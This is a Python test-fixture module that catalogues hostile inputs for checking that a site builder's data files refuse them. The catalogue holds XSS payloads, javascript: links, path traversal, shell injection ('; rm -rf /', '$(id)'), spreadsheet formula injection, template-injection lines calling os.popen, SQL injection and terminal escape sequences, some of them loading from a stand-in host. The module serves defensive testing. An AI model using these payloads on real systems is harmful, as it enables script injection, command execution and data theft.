"""Texts that try to be something else than text, by what they try, and every place in data/ that can hold one."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field

from builder.tables.columns import Column, Kind
from builder.tables.schema import SETUP, TABLES, TASK, Document, Table

# What runs where a payload succeeds: the browser tests look for it.
FLAG = "window.hostile=1"
ABROAD = "https://abroad.example"


@dataclass(frozen=True)
class Group:
    """Texts with one aim.

    Attributes:
        aim: What they try.
        taken: The kinds of columns that take them, as text that means nothing; all others refuse them.
        texts: As a contributor would write them into a cell.
    """

    aim: str
    taken: frozenset[Kind]
    texts: tuple[str, ...] = field(repr=False)


_TEXT: frozenset[Kind] = frozenset({"text"})
_NAME: frozenset[Kind] = frozenset({"text", "name"})
_SLUG: frozenset[Kind] = frozenset({"text", "name", "slug"})
_NONE: frozenset[Kind] = frozenset()

GROUPS = (
    Group(
        "elements",
        _TEXT,
        (
            f"<script>{FLAG}</script>",
            f"<ScRiPt>{FLAG}</sCrIpT>",
            f"<script src={ABROAD}/x.js></script>",
            f"<script type=module>import '{ABROAD}/x.js'</script>",
            f"</script><script>{FLAG}//",
            f"</title><script>{FLAG}</script>",
            f"</style><script>{FLAG}</script>",
            f"</textarea><script>{FLAG}</script>",
            f"</template><script>{FLAG}</script>",
            f"</noscript><script>{FLAG}</script>",
            f"</svg><script>{FLAG}</script>",
            f"</select><img src=x onerror={FLAG}>",
            f"<img src=x onerror={FLAG}>",
            f"<img src={ABROAD}/x.png>",
            f"<img srcset={ABROAD}/x.png>",
            f"<svg onload={FLAG}>",
            f"<svg/onload={FLAG}>",
            f"<svg><script>{FLAG}</script></svg>",
            f"<svg><script href=data:text/javascript,{FLAG} /></svg>",
            f"<svg><use href='data:image/svg+xml,<svg id=x onload={FLAG}>#x'></svg>",
            f"<svg><animate onbegin={FLAG} attributeName=x dur=1s>",
            f"<svg><foreignObject><body onload={FLAG}></foreignObject></svg>",
            f"<svg><image href={ABROAD}/x.svg></svg>",
            f"<math><mtext></mtext><mglyph><style></math><img src onerror={FLAG}>",
            f"<body onload={FLAG}>",
            f"<details open ontoggle={FLAG}>",
            f"<input autofocus onfocus={FLAG}>",
            f"<video><source onerror={FLAG}></video>",
            f"<audio src=x onerror={FLAG}>",
            f"<marquee onstart={FLAG}>",
            f"<iframe src='javascript:parent.{FLAG}'></iframe>",
            f"<iframe srcdoc='<script>parent.{FLAG}</script>'></iframe>",
            f"<iframe src={ABROAD}></iframe>",
            f"<object data='javascript:{FLAG}'></object>",
            f"<embed src={ABROAD}/x.swf>",
            f"<form action={ABROAD}><button>Go</button></form>",
            f"<a href='javascript:{FLAG}'>click</a>",
            f"<a href={ABROAD} target=_blank>click</a>",
            f"<base href={ABROAD}/>",
            f"<link rel=stylesheet href={ABROAD}/x.css>",
            f"<link rel=preload as=script href={ABROAD}/x.js>",
            f"<meta http-equiv=refresh content='0;url={ABROAD}'>",
            '<meta http-equiv=Content-Security-Policy content="default-src *">',
            f"<style>@import '{ABROAD}/x.css';</style>",
            "<style>*{display:none}</style>",
            "<plaintext>",
            "<!--",
            "<!-- --!> <b>",
            "<![CDATA[ x ]]>",
            "]]>",
            f"]]><script>{FLAG}</script>",
            "<?xml-stylesheet href='x'?>",
            "<?php system('id') ?>",
            "<!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
            "<b>bold</b>",
            "<h1>Joule Atlas has moved</h1>",
            "</main></body></html>",
            f"<scr<script>ipt>{FLAG}</scr</script>ipt>",
            "&lt;script&gt;",
            f"&#60;script&#62;{FLAG}&#60;/script&#62;",
            "&amp;amp;",
            "&nbsp;",
            "&NotEqualTilde;&#x0;",
        ),
    ),
    Group(
        "attributes",
        _TEXT,
        (
            f'" onmouseover="{FLAG}',
            f"' onmouseover='{FLAG}",
            f'" onfocus="{FLAG}" autofocus="',
            f'"><script>{FLAG}</script>',
            f"'><script>{FLAG}</script>",
            f'"><img src=x onerror={FLAG}>',
            f'"/><svg onload={FLAG}>',
            f"` onmouseover={FLAG} x=`",
            '" style="position:fixed;inset:0',
            '" class="site-header',
            '" id="main',
            '" hidden x="',
            f'" formaction="javascript:{FLAG}',
            '"',
            "'",
            '""""""',
            "\\",
            "\\\\",
            '\\" onload=x',
            "x y=z",
        ),
    ),
    Group(
        "links that are none",
        _TEXT,
        (
            f"javascript:{FLAG}",
            f"JaVaScRiPt:{FLAG}",
            f"javascript://example.org/%0A{FLAG}",
            f"javascript&colon;{FLAG}",
            f"data:text/html,<script>{FLAG}</script>",
            "data:text/html;base64,PHNjcmlwdD4=",
            "vbscript:msgbox(1)",
            "file:///etc/passwd",
            "blob:https://example.org/1",
            "about:blank",
            "view-source:https://example.org/",
            "//abroad.example/x.js",
            "\\\\abroad.example\\share",
            "https:abroad.example",
            "https:/abroad.example",
            "https:///abroad.example",
            "https://",
            "https://localhost/",
            "https://user@abroad.example/",
            "https://user:word@abroad.example/",
            "https://example.org:8443/",
            "https://example.org@abroad.example/",
            "https://example.org\\@abroad.example/",
            "https://[::1]/",
            "https://127.0.0.1/x",
            "https://127.1/x",
            "https://0x7f.0.0.1/x",
            "https://-.-",
            "https://-a.org/",
            "https://a-.org/",
            "https://example.org./",
            "https://example.o/",
            f"https://{'a' * 64}.org/",
            "https://ex ample.org/",
            'https://example.org/"onmouseover="x',
            "https://example.org/'onmouseover='x",
            "https://example.org/<script>",
            "https://example.org/`x`",
            "https://example.org/{{x}}",
            "https://ex\u0430mple.org/",
            "HTTPS://example.org/",
            "http://example.org/",
            "ftp://example.org/",
            "ws://example.org/",
            "mailto:someone@example.org",
        ),
    ),
    Group(
        "links that only look bad",
        frozenset({"text", "url"}),
        (
            "https://example.org/%3Cscript%3E",
            "https://example.org/?next=javascript:x",
            "https://example.org/../../etc/passwd",
            "https://example.org/#%22onload=x",
            "https://example.org/?a=1&amp;b=2&lt=3",
            "https://xn--e1afmkfd.xn--p1ai/",
        ),
    ),
    Group(
        "paths",
        _TEXT,
        (
            "../../../etc/passwd",
            "..",
            ".",
            "./x",
            "../",
            "..\\..\\windows",
            "/etc/passwd",
            "C:\\Windows",
            "a/../../b",
            "a/./b",
            "a//b",
            "a/",
            ".htaccess",
            ".git/config",
            "a..b",
            "%2e%2e%2fetc",
            "%2e%2e/%2e%2e",
            "..%c0%afetc",
            "a%00.html",
            "~root",
            "$HOME",
            "$(id)",
            "`id`",
            "; rm -rf /",
            "| id",
            "&& id",
            "%USERPROFILE%",
            "a?b#c",
            "a:b",
            "a*b",
            "NUL:",
            "x.",
        ),
    ),
    Group(
        "names that mean something to a program",
        _NAME,
        ("__proto__", "toString", "hasOwnProperty", "CON", "AUX.txt", "COM1", "LPT1.base", "None", "NaN", "Infinity"),
    ),
    Group(
        "words that mean something to a program",
        _SLUG,
        ("constructor", "prototype", "index", "nul", "con", "null", "undefined", "true", "main", "1e400", "0x10"),
    ),
    Group("names of parts", _NAME, ("a/b", "a/b/c.d-e", "api/etc/passwd", "datum.x", "event.view.window.hostile")),
    Group(
        "formulas",
        _NONE,
        (
            "=1+1",
            "=cmd|'/c calc'!A0",
            f'=HYPERLINK("{ABROAD}")',
            f'=WEBSERVICE("{ABROAD}")',
            f'=IMPORTXML("{ABROAD}","//a")',
            "+1+1",
            "+cmd|'/c calc'!A0",
            "-1+1",
            "-2+3+cmd|'/c calc'!A0",
            "@SUM(1)",
            "\uff1d1+1",
            "\uff0b1",
            "\uff0d1",
            "\uff20SUM(1)",
            "-->",
            "--><script>",
            "\t=1+1",
            " =1+1",
        ),
    ),
    Group(
        "formulas where semicolons divide cells",
        _NONE,
        (
            "x;=1+1",
            "x; =1+1",
            "x;y;+1+1",
            "x;@SUM(1)",
            'x;"=1+1"',
            "x;\uff1d1+1",
            "https://example.org/x;=1+1",
            "'; DROP TABLE models; --",
        ),
    ),
    Group(
        "characters that do not show",
        _NONE,
        tuple(
            f"a{character}b"
            for character in (
                "\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2060\u2066\u2067\u2068\u2069\ufeff"
                "\u00ad\u061c\u180e\u034f\u115f\u1160\u17b4\u2800\u3164\ufe0f\uffa0\U0001d159\U000e0041\U000e0100\ufff9\ue000\ufffe"
            )
        ),
    ),
    Group(
        "control characters",
        _NONE,
        (
            *(f"a{character}b" for character in "\t\x01\x07\x08\x0b\x0c\x1b\x7f\x80\x85\x9f\u2028\u2029\r"),
            "a\x1b[2Jb",
            "a\x1b]8;;https://abroad.example\x07b",
        ),
    ),
    Group("spaces", _NONE, (" a", "a ", " ", "\u00a0a", "a\u00a0b", "a\u2003b", "a\u3000b")),
    Group("letters in two parts", _NONE, ("e\u0301", "A\u030a", "\u212b", "\u1100\u1161")),
    Group(
        "letters that look like others",
        _TEXT,
        (
            "\u0420\u0435sNet",
            "ResNe\u03c4",
            "\uff1cscript\uff1e",
            "\u2039script\u203a",
            "\u1d5d\u1d49\u02e2",
            "\u202fx"[1:] + "\u0338",
            "\u0130stanbul \u0131\u017f\u212a"[:-1],
            "\u4e2d\u6587 \u05d0\u05d1 \u0639\u0631\u0628",
            "\U0001f4a9\U0001f600",
            "Z\u0335\u0336\u0337\u0338algo",
            "\ufdfd",
            "\u2018quotes\u2019 \u201ctoo\u201d",
        ),
    ),
    Group(
        "templates",
        _TEXT,
        (
            "{{ 7 * 7 }}",
            "{{7*7}}",
            "{{ site }}",
            "{{ ''.__class__.__mro__ }}",
            "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
            "{% for x in y %}",
            "{% include '/etc/passwd' %}",
            "{# comment",
            "${7*7}",
            "#{7*7}",
            "<%= 7*7 %>",
            "{0.__class__}",
            "{page.title}",
            "%s%s%n",
            "%(page)s",
            "$title",
            "[[7*7]]",
        ),
    ),
    Group(
        "expressions",
        _TEXT,
        (
            "datum['constructor']",
            "datum.constructor.constructor('window.hostile=1')()",
            "signal('w')",
            f"');{FLAG};('",
            f'");{FLAG};("',
            f";{FLAG}//",
            f"*/{FLAG}/*",
            "'; DROP TABLE models; /*",
            "' OR 1=1 --",
            "'' || read_csv('/etc/passwd')",
            "\"); ATTACH 'x'; /*",
        ),
    ),
    Group(
        "styles and notations",
        _TEXT,
        (
            "}*{display:none}",
            "expression(alert(1))",
            f"url({ABROAD}/x)",
            "</style>",
            f"[click](javascript:{FLAG})",
            f"![x]({ABROAD}/x.png)",
            "| a | b |",
            "# heading",
            "```",
            "<https://abroad.example>",
            "::error file=x::forged",
            "::set-output name=x::y",
            "%0A::error::forged",
        ),
    ),
    Group(
        "lengths",
        _NONE,
        ("a" * 2001, "\U0001f4a9" * 2001, "<b>" * 20_000, "a." * 5_000, "9" * 5_000, "1e" + "9" * 5_000),
    ),
    Group("lengths that fit a text", _TEXT, ("a" * 2000, "W" * 121 + "!", "\U0001f4a9" * 500)),
)
# All at once, for places of which a site has one.
POLYGLOT = f"\"'`--></title></style></script>]]><img src={ABROAD}/x onerror={FLAG}>{{{{7*7}}}}{{%x%}}${{7}}&lt;b&gt;\\"


@dataclass(frozen=True)
class Place:
    """A column of a CSV file, or a field of a TOML file.

    Attributes:
        section: Of the TOML file.
    """

    file: Table | Document
    section: str
    column: Column


def payloads() -> Iterator[tuple[Group, str]]:
    """Yield every text with its group."""
    for group in GROUPS:
        for text in group.texts:
            yield group, text


def shown_texts() -> list[str]:
    """Return the texts that a column of texts takes: they reach the site."""
    return [text for group, text in payloads() if "text" in group.taken]


def columns_of_tables() -> list[Place]:
    """Return every column of every CSV file.

    Patterns are left out: they are ASCII of any kind by nature, and never leave the file that they stand in.
    """
    return [Place(table, "", column) for table in TABLES for column in table.columns if column.kind != "pattern"]


def fields_of_documents() -> list[Place]:
    """Return every declared field of every TOML file."""
    return [
        Place(document, section, column)
        for document in (TASK, SETUP)
        for section, columns in document.sections.items()
        for column in columns
    ]
